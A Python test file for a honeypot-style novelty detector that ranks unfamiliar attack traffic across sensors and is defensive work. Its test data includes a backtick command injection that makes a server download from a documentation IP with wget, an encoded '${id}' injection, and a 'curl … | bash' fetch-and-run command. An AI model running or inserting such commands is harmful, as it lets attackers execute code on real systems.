import random

import pyarrow as pa

from batches import BEGIN, Row, batch_of
from propolis.clock import SECOND
from propolis.detection.novelty import novelty as module
from propolis.detection.novelty.novel import Novel
from propolis.detection.novelty.novelty import MAX_FRESH, Novelty
from propolis.events import CommandRun, ConnectionOpened, PayloadReceived, RequestReceived

DAY = 86_400 * SECOND
WORDS = (
    "admin",
    "login",
    "api",
    "robots",
    "shop",
    "cart",
    "user",
    "news",
    "about",
    "search",
    "img",
    "css",
    "js",
)
USUAL = [f"/{one}/{other}.php?page={one}".encode() for one in WORDS for other in WORDS]


def request(path: bytes, **more: str) -> RequestReceived:
    raw = b"GET %s HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: curl\r\n\r\n" % path
    return RequestReceived("GET", path.decode(), "192.0.2.1", "curl", raw, len(raw), **more)


def background(count: int, chance: random.Random) -> list[Row]:
    return [
        (f"10.0.{chance.randrange(4)}.{chance.randrange(250)}", request(chance.choice(USUAL)))
        for _ in range(count)
    ]


def fed(*batches: pa.RecordBatch) -> Novelty:
    novelty = Novelty(random.Random(1))
    for sequence, batch in enumerate(batches, 1):
        novelty.take(sequence, batch)
    return novelty


def found(novelty: Novelty, word: str, now: int = BEGIN + SECOND) -> list[tuple[int, Novel]]:
    return [(place, one) for place, one in enumerate(novelty.queue(now).novel, 1) if word in one.template]


def campaign(count: int, word: bytes = b"zyx") -> list[Row]:
    return [
        (f"198.18.{number}.1", request(b"/cgi-bin/%s.cgi?cmd=`wget+http://203.0.113.%d/a`" % (word, number)))
        for number in range(count)
    ]


def test_what_breaks_out_is_at_the_top() -> None:
    novelty = fed(batch_of(background(800, random.Random(1))), batch_of(campaign(12)))
    ((place, one),) = found(novelty, "zyx")
    assert place == 1
    assert (one.sources, one.events, one.what) == (12, 12, "request")
    assert one.ports == (80,)
    assert one.sensors == ("sensor-1",)


def test_wider_spread_stands_before_narrower_and_one_source_is_no_spread() -> None:
    rows = [
        *campaign(20, b"wide"),
        *[(f"198.19.{number}.1", request(b"/other/narrow/way.jsp?run=%24%7bid%7d")) for number in range(3)],
        *[("198.18.9.9", request(b"/alone/only/me.asp?x=1"))] * 30,
    ]
    novelty = fed(batch_of(background(400, random.Random(1))), batch_of(rows))
    assert found(novelty, "wide")[0][0] < found(novelty, "narrow")[0][0]
    assert found(novelty, "alone") == []


def test_spread_is_counted_over_lanes() -> None:
    lanes = [batch_of(campaign(12)[start::4]) for start in range(4)]
    ((_, one),) = found(fed(*lanes), "zyx")
    assert one.sources == 12


def test_a_batch_that_comes_again_changes_nothing() -> None:
    novelty = fed(batch_of(campaign(12)))
    before = novelty.queue(BEGIN)
    novelty.take(1, batch_of(campaign(12)))
    assert novelty.queue(BEGIN) == before


def test_a_stream_that_was_made_anew_begins_anew() -> None:
    novelty = Novelty(random.Random(1))
    novelty.begin("monday")
    novelty.take(5, batch_of(campaign(3)))
    novelty.begin("monday")
    novelty.take(5, batch_of(campaign(12)))
    assert found(novelty, "zyx")[0][1].sources == 3
    novelty.begin("tuesday")
    novelty.take(1, batch_of(campaign(12)))
    assert found(novelty, "zyx")[0][1].sources == 12


def test_what_a_lure_names_is_not_new() -> None:
    rows = [
        (f"198.18.{number}.1", request(b"/named/by/lure.cgi", flaws="some-flaw/run:300"))
        for number in range(9)
    ]
    ((_, one),) = found(fed(batch_of(rows)), "named")
    assert (one.known, one.score) == (1.0, 0.0)


def test_a_source_that_could_be_forged_counts_nowhere() -> None:
    assert fed(batch_of(campaign(12), evidence_class="spoofable")).queue(BEGIN).novel == ()


def test_commands_and_payloads_are_looked_at_and_silence_is_not() -> None:
    rows: list[Row] = []
    for number in range(4):
        source = f"198.18.{number}.1"
        rows += [
            (source, CommandRun("curl -s http://203.0.113.9/k.sh | bash -s")),
            (source, PayloadReceived(b"\x03\x00\x00\x2amagic-word-of-a-worm")),
            (source, PayloadReceived(b"")),
            (source, ConnectionOpened()),
        ]
    assert {one.what for one in fed(batch_of(rows)).queue(BEGIN).novel} == {"command", "payload"}


def test_novelty_wears_off() -> None:
    novelty = fed(batch_of(campaign(12)))
    early, late = (found(novelty, "zyx", now)[0][1].score for now in (BEGIN + SECOND, BEGIN + 9 * DAY))
    assert late < early / 8


def test_a_flood_of_texts_is_bounded_and_told() -> None:
    flood: list[Row] = [("198.18.0.1", CommandRun(f"word{number} " * 3)) for number in range(MAX_FRESH + 40)]
    novelty = fed(batch_of(flood))
    assert novelty.take_missed() == 40
    assert novelty.take_missed() == 0


def test_it_goes_on_from_its_checkpoint() -> None:
    novelty = fed(batch_of(background(200, random.Random(1))), batch_of(campaign(6)))
    again = Novelty.from_bytes(novelty.to_bytes())
    assert again.queue(BEGIN) == novelty.queue(BEGIN)
    for one in (novelty, again):
        one.take(3, batch_of(campaign(12)))
    assert found(again, "zyx")[0][1].sources == found(novelty, "zyx")[0][1].sources == 12


def test_a_batch_of_nothing_new_names_no_sensor_twice() -> None:
    novelty = fed(*[batch_of(campaign(3)) for _ in range(3)])
    assert found(novelty, "zyx")[0][1].sensors == ("sensor-1",)
    assert module.MIN_SOURCES == 2
